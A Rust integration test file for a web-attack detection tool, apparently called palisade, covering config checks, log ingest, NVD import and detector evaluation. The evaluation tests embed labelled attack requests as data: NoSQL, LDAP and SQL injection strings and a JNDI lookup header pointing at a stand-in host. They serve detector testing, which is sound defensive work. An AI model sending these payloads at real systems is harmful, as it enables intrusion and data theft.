//! The command line as a user runs it.

use std::io::Write;
use std::process::Output;

mod common;

fn palisade(data: &std::path::Path, args: &[&str]) -> Output {
    common::palisade(data, args).output().expect("run palisade")
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn version_prints_the_version() {
    let dir = tempfile::tempdir().expect("tempdir");
    let o = palisade(dir.path(), &["version"]);
    assert!(o.status.success());
    assert!(text(&o).contains(env!("CARGO_PKG_VERSION")));
}

#[test]
fn config_check_lists_every_problem() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = dir.path().join("bad.toml");
    std::fs::write(
        &cfg,
        "listen = \"nope\"\ndatabase_url = \"mysql://root:hunter2@db/x\"\n",
    )
    .expect("write");
    let o = palisade(
        dir.path(),
        &["config", "check", "--config", cfg.to_str().expect("utf8")],
    );
    assert!(!o.status.success());
    let t = text(&o);
    assert!(t.contains("listen:") && t.contains("database_url:"), "{t}");
    assert!(
        !t.contains("hunter2"),
        "passwords must never be printed: {t}"
    );
    let good = dir.path().join("good.toml");
    std::fs::write(&good, "listen = \"127.0.0.1:9999\"\n").expect("write");
    let o = palisade(
        dir.path(),
        &["config", "check", "-c", good.to_str().expect("utf8")],
    );
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("127.0.0.1:9999"));
}

#[test]
fn ingest_imports_plain_and_gzip_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let plain = dir.path().join("a.log");
    let mut body = String::new();
    for i in 0..300 {
        body.push_str(&format!(
            "10.0.0.{} - - [10/Oct/2023:13:55:36 +0000] \"GET /a/{i} HTTP/1.1\" 200 5 \"-\" \"t\"\n",
            i % 200
        ));
    }
    body.push_str("broken line\n");
    std::fs::write(&plain, &body).expect("write");
    let gz = dir.path().join("b.log.gz");
    let mut enc = flate2::write::GzEncoder::new(
        std::fs::File::create(&gz).expect("gz"),
        flate2::Compression::fast(),
    );
    enc.write_all(body.replace("/a/", "/b/").as_bytes())
        .expect("gz write");
    enc.finish().expect("gz finish");

    let o = palisade(
        dir.path(),
        &[
            "ingest",
            plain.to_str().expect("p"),
            gz.to_str().expect("p"),
        ],
    );
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(
        t.contains("total: 2 files, 602 lines, 600 parsed, 2 dead letters"),
        "{t}"
    );

    // The same files again: nothing new is stored.
    let o = palisade(
        dir.path(),
        &[
            "ingest",
            plain.to_str().expect("p"),
            gz.to_str().expect("p"),
        ],
    );
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(t.contains("total: 2 files, 0 lines"), "{t}");

    let o = palisade(dir.path(), &["migrate"]);
    assert!(o.status.success(), "{}", text(&o));

    let missing = palisade(dir.path(), &["ingest", "/nonexistent/x.log"]);
    assert!(!missing.status.success());
    assert!(text(&missing).contains("/nonexistent/x.log"));
}

#[test]
fn vuln_import_loads_nvd_pages_offline_and_match_runs() {
    let dir = tempfile::tempdir().expect("tempdir");
    let data = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../vuln/tests/data/nvd");
    let pages: Vec<String> = (0..3)
        .map(|i| {
            data.join(format!("nvdcve-2.0-page-{i:03}.json"))
                .display()
                .to_string()
        })
        .collect();
    let mut args = vec!["vuln", "import", "--quiet"];
    args.extend(pages.iter().map(String::as_str));
    let o = palisade(dir.path(), &args);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("3 files, 145 records: 145 new, 0 updated, 0 unchanged, 0 unreadable"),
        "{}",
        text(&o)
    );
    let o = palisade(dir.path(), &args);
    assert!(text(&o).contains("145 records: 0 new"), "{}", text(&o));
    let bad = dir.path().join("not-nvd.json");
    std::fs::write(&bad, "[1, 2").expect("write");
    let o = palisade(dir.path(), &["vuln", "import", bad.to_str().expect("utf8")]);
    assert!(!o.status.success());
    assert!(text(&o).contains("not-nvd.json"), "{}", text(&o));
    let o = palisade(dir.path(), &["vuln", "match", "--quiet"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("0 assets"), "{}", text(&o));
}

#[test]
fn eval_reports_per_category_and_per_part() {
    let dir = tempfile::tempdir().expect("tempdir");
    let corpus = dir.path().join("corpus.jsonl");
    let lines = [
        r#"{"method":"GET","uri":"/login?user=admin&password[$ne]=x","headers":[["Host","h"]],"label":"attack","category":"nosqli","part":"query"}"#,
        r#"{"method":"GET","uri":"/people?name=*)(uid%3D*))(%7C(uid%3D*","headers":[["Host","h"]],"label":"attack","category":"ldapi","part":"query"}"#,
        r#"{"method":"GET","uri":"/users/1%27%20UNION%20SELECT%20password%20FROM%20users--","headers":[["Host","h"]],"label":"attack","category":"sqli","part":"path"}"#,
        r#"{"method":"GET","uri":"/","headers":[["Host","h"],["X-Api-Version","${jndi:ldap://e.example/a}"]],"label":"attack","category":"jndi","part":"header"}"#,
        r#"{"method":"GET","uri":"/search?q=hello","headers":[["Host","h"]],"label":"attack","category":"sqli","part":"query"}"#,
        r#"{"method":"GET","uri":"/products?page=2","headers":[["Host","h"]],"label":"normal","category":"benign","part":"query"}"#,
    ];
    std::fs::write(&corpus, lines.join("\n")).expect("write");
    let json = dir.path().join("report.json");
    let o = palisade(
        dir.path(),
        &[
            "eval",
            corpus.to_str().expect("utf-8"),
            "--paranoia",
            "1",
            "--json",
            json.to_str().expect("utf-8"),
        ],
    );
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(out.contains("by category:"), "{out}");
    assert!(out.contains("by part:"), "{out}");
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&json).expect("report")).expect("json");
    let level = &report[0];
    // The benign-looking "attack" is the one miss: sqli 1 of 2, query 2 of 3.
    assert_eq!(level["by_category"]["sqli"]["tp"], 1, "{level}");
    assert_eq!(level["by_category"]["sqli"]["fn"], 1, "{level}");
    assert_eq!(level["by_category"]["nosqli"]["tp"], 1, "{level}");
    assert_eq!(level["by_category"]["ldapi"]["tp"], 1, "{level}");
    assert_eq!(level["by_category"]["benign"]["tn"], 1, "{level}");
    assert_eq!(level["by_part"]["query"]["tp"], 2, "{level}");
    assert_eq!(level["by_part"]["query"]["fn"], 1, "{level}");
    assert_eq!(level["by_part"]["path"]["tp"], 1, "{level}");
    assert_eq!(level["by_part"]["header"]["tp"], 1, "{level}");
    assert_eq!(level["detected_in"]["path_segment"], 1, "{level}");
    assert_eq!(level["detected_in"]["other_header"], 1, "{level}");
}

#[test]
fn eval_runs_owasp_crs_rule_files_and_says_what_loaded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let corpus = dir.path().join("corpus.jsonl");
    let lines = [
        r#"{"method":"GET","uri":"/item?id=1%27%20or%20%271%27%3D%271","headers":[["Host","localhost"],["Accept","text/html"],["User-Agent","Mozilla/5.0"]],"label":"attack"}"#,
        r#"{"method":"GET","uri":"/products?page=2","headers":[["Host","localhost"],["Accept","text/html"],["User-Agent","Mozilla/5.0"]],"label":"normal"}"#,
    ];
    std::fs::write(&corpus, lines.join("\n")).expect("write");
    let crs =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../detect/tests/fixtures/crs-3.3.4");
    let json = dir.path().join("report.json");
    let verdicts = dir.path().join("verdicts.jsonl");
    let o = palisade(
        dir.path(),
        &[
            "eval",
            corpus.to_str().expect("utf-8"),
            "--paranoia",
            "1",
            "--crs-dir",
            crs.to_str().expect("utf-8"),
            "--crs-mode",
            "replace",
            "--json",
            json.to_str().expect("utf-8"),
            "--verdicts",
            verdicts.to_str().expect("utf-8"),
        ],
    );
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("175 request rules loaded") && out.contains("skipped: transformation 2;"),
        "{out}"
    );
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&json).expect("report")).expect("json");
    assert_eq!(report[0]["overall"]["tp"], 1, "{report}");
    assert_eq!(report[0]["overall"]["fp"], 0, "{report}");
    // One verdict per request, in corpus order, with the CRS rule ids that scored.
    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&verdicts)
        .expect("verdicts")
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert_eq!(lines[0]["idx"], 0);
    assert_eq!(lines[0]["blocked"], true);
    assert!(
        lines[0]["rules"]
            .as_array()
            .is_some_and(|r| r.iter().any(|id| id == 942100)),
        "{lines:?}"
    );
    assert_eq!(lines[1]["blocked"], false);
    assert_eq!(lines[1]["rules"], serde_json::json!([]));
    let o = palisade(
        dir.path(),
        &[
            "eval",
            corpus.to_str().expect("utf-8"),
            "--crs-dir",
            crs.to_str().expect("utf-8"),
            "--crs-mode",
            "both",
        ],
    );
    assert!(!o.status.success());
    assert!(text(&o).contains("--crs-mode"), "{}", text(&o));
}

#[test]
fn eval_protocol_b_splits_by_value_and_reports_baselines() {
    let dir = tempfile::tempdir().expect("tempdir");
    let get = |uri: &str, label: &str| {
        format!(r#"{{"method":"GET","uri":"{uri}","headers":[["Host","shop"]],"label":"{label}"}}"#)
    };
    let train: Vec<String> = (0..40)
        .map(|i| get(&format!("/item?id={}", i * 3), "normal"))
        .collect();
    let mut test: Vec<String> = (0..10)
        .map(|i| get(&format!("/item?id={}", i * 5), "normal"))
        .collect();
    // Attacks in pairs sharing a value, so the split has groups to keep together.
    for i in 0..6 {
        let payload = format!("abcdefghijklmnopqrstuvwxyz{i}");
        test.push(get(&format!("/item?id={payload}"), "attack"));
        test.push(get(&format!("/item?id={payload}&x=q{i}"), "attack"));
    }
    let (train_file, test_file) = (
        dir.path().join("train.jsonl"),
        dir.path().join("test.jsonl"),
    );
    std::fs::write(&train_file, train.join("\n")).expect("write");
    std::fs::write(&test_file, test.join("\n")).expect("write");
    let side = dir.path().join("side.jsonl");
    let json = dir.path().join("report.json");
    let path = |p: &std::path::Path| p.to_str().expect("utf-8").to_owned();
    let args = [
        "eval".to_owned(),
        path(&test_file),
        "--paranoia".into(),
        "1".into(),
        "--protocol".into(),
        "b".into(),
        "--seed".into(),
        "3".into(),
        "--write-train-side".into(),
        path(&side),
        "--baselines-train".into(),
        path(&train_file),
        "--baseline-warmup".into(),
        "10".into(),
        "--json".into(),
        path(&json),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = palisade(dir.path(), &args);
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("protocol (b), seed 3: 6 attacks for training, 6 for testing"),
        "{out}"
    );
    assert!(
        out.contains("baselines learnt from 40 normal requests"),
        "{out}"
    );
    let written = std::fs::read_to_string(&side).expect("training side");
    assert_eq!(written.lines().count(), 6);
    assert!(written.lines().all(|l| l.contains("\"label\":\"attack\"")));
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(json.with_extension("model.json")).expect("report"))
            .expect("json");
    let baselines = report["scored"]
        .as_array()
        .and_then(|s| s.iter().find(|x| x["name"] == "baselines"))
        .unwrap_or_else(|| panic!("{report}"));
    // 40 letters in a numeric id: every test-side attack, no normal request.
    assert_eq!(baselines["confusion"]["tp"], 6, "{report}");
    assert_eq!(baselines["confusion"]["fp"], 0, "{report}");
    // Never evaluated on its own training data.
    let o = palisade(
        dir.path(),
        &[
            "eval",
            &path(&test_file),
            "--baselines-train",
            &path(&test_file),
        ],
    );
    assert!(!o.status.success());
    assert!(
        text(&o).contains("never evaluated on their training data"),
        "{}",
        text(&o)
    );
}
